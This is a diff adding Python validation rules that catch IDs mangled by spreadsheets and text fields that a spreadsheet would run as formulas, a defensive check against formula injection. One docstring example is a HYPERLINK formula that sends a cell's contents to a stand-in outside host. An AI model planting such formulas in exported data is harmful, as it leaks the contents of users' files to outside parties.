@@ -1,0 +1,126 @@
+"""Rules about what a spreadsheet makes of text in its cells, and its cells of text."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from dataclasses import dataclass
+from dataclasses import field as option
+from typing import Any, ClassVar
+
+import regex
+
+from ..violation import Severity
+from .base import Fields, Finding, RecordRule
+from .fragments import Schema, ascii_pattern, field_is, means_the_same_everywhere
+from .text import PATTERN_SECONDS
+
+_SCIENTIFIC = r"[+-]?[0-9](?:[.,][0-9]+)?E[+-]?[0-9]+"
+_NUMBER = r"[+-]?[0-9][0-9.,]*(?:[eE][+-]?[0-9]+)?%?"
+_IS_SCIENTIFIC = regex.compile(_SCIENTIFIC)
+_IS_NUMBER = regex.compile(_NUMBER)
+_MOST_ZEROS = 20
+
+
+@dataclass(frozen=True, kw_only=True)
+class DamagedId(RecordRule):
+    """An id must not be what a spreadsheet made of it.
+
+    ## What it checks
+    The text is not a number as spreadsheets show long ones, such as `1.23457E+15`. Where `pattern` is given and the
+    text does not match it, zeros before it would not make it match.
+
+    ## Why it matters
+    A spreadsheet takes text that looks like a number for one: it drops zeros in front, and digits beyond the
+    fifteenth. The id then leads to another entry, or to none.
+
+    ## Example
+    `1.23457E+15` for `1234567890123456`; `123` for `00123`, where ids have five digits.
+
+    ## How to mend it
+    Give the column the format "Text" before you enter or paste ids, and import CSV files with that format. What was
+    lost has to come from where the id came from.
+
+    Attributes:
+        field: the field.
+        pattern: what the id looks like, where that is known.
+    """
+
+    kind: ClassVar[str] = "damaged-id"
+    default_message: ClassVar[str] = '{subject}.{field} "{value}" looks like an id that a spreadsheet has changed'
+    default_hint: ClassVar[str] = "{advice}"
+
+    field: str
+    pattern: str = ""
+    severity: Severity = Severity.WARNING
+    _compiled: Any = option(init=False, repr=False, compare=False, default=None)
+
+    def __post_init__(self) -> None:
+        super().__post_init__()
+        if self.pattern:
+            object.__setattr__(self, "_compiled", regex.compile(self.pattern, regex.ASCII))
+
+    def schema(self) -> Schema:
+        intact: Schema = {"not": {"pattern": f"^(?:{_SCIENTIFIC})$"}}
+        if not self.pattern:
+            return field_is(self.field, intact)
+        no_number: Schema = {"pattern": "^[^0-9+-]"}
+        if not means_the_same_everywhere(self.pattern):
+            return field_is(self.field, no_number)
+        return field_is(self.field, {"anyOf": [no_number, {"pattern": ascii_pattern(self.pattern), **intact}]})
+
+    def check(self, fields: Fields) -> Iterator[Finding]:
+        value = fields.get(self.field)
+        if not isinstance(value, str):
+            return
+        if _IS_SCIENTIFIC.fullmatch(value):
+            advice = "enter it again, in a column with the format Text: digits of it are lost"
+            yield Finding((self.field,), value, {"advice": advice})
+        elif self.pattern and value.isascii() and value.isdigit() and (padded := self._padded(value)):
+            yield Finding((self.field,), value, {"advice": f"write {padded}, in a column with the format Text"})
+
+    def _padded(self, digits: str) -> str | None:
+        """The digits with so many zeros before them that they match the pattern; None where they do, or none help."""
+        try:
+            for zeros in range(_MOST_ZEROS):
+                if self._compiled.fullmatch(digits.rjust(len(digits) + zeros, "0"), timeout=PATTERN_SECONDS):
+                    return digits.rjust(len(digits) + zeros, "0") if zeros else None
+        except TimeoutError:
+            pass
+        return None
+
+
+@dataclass(frozen=True, kw_only=True)
+class FormulaText(RecordRule):
+    """Text must not look like a formula.
+
+    ## What it checks
+    The text does not begin with `=`, `+`, `-` or `@`, unless it is a number.
+
+    ## Why it matters
+    To whoever opens the file, or an export of what was imported, in a spreadsheet next, it is a formula: it is worked
+    out, and can reach other files and the web.
+
+    ## Example
+    `=HYPERLINK("https://example.org/?"&A1)`; `@ann`; `+1 more`.
+
+    ## How to mend it
+    Put another character first, if the text can do without; leave it where it is right and everybody knows.
+
+    Attributes:
+        field: the field.
+    """
+
+    kind: ClassVar[str] = "formula-text"
+    default_message: ClassVar[str] = '{subject}.{field} begins with "{first}": a formula to whoever opens the file next'
+    default_hint: ClassVar[str] = "begin the text with another character"
+
+    field: str
+    severity: Severity = Severity.WARNING
+
+    def schema(self) -> Schema:
+        return field_is(self.field, {"pattern": f"^(?:[^=+@-]|$|(?:{_NUMBER})$)"})
+
+    def check(self, fields: Fields) -> Iterator[Finding]:
+        value = fields.get(self.field)
+        if isinstance(value, str) and value.startswith(("=", "+", "-", "@")) and not _IS_NUMBER.fullmatch(value):
+            yield Finding((self.field,), value, {"first": value[0]})
